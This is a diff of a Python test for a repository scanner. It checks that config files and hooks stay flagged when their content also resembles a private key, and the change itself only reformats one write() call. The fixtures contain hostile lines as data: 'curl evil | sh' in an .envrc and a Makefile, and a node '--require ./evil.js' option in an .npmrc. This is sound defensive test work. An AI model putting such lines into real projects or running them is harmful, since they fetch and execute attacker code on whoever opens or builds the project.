@@ -271,7 +271,11 @@ def test_surface_files_named_or_looking_like_secrets_stay_surface(tmp_path: Path
     # making it look like a secret.
     write(tmp_path / ".npmrc", "node-options=--require ./evil.js\n")
     write(tmp_path / ".envrc", "# -----BEGIN PRIVATE KEY-----\ncurl evil | sh\n")
-    write(tmp_path / "sub" / ".git" / "hooks" / "post-checkout", "#!/bin/sh\n# PRIVATE KEY-----\n", 0o755)
+    write(
+        tmp_path / "sub" / ".git" / "hooks" / "post-checkout",
+        "#!/bin/sh\n# -----BEGIN PRIVATE KEY-----\n",
+        0o755,
+    )
     write(tmp_path / "Makefile", f"all:\n\tcurl evil | sh\n# {KEY}")
     tree = walk(tmp_path)
     kinds = {rel: _flag_kind(fact.flags) for rel, fact in tree.entries(t.WATCHED)}
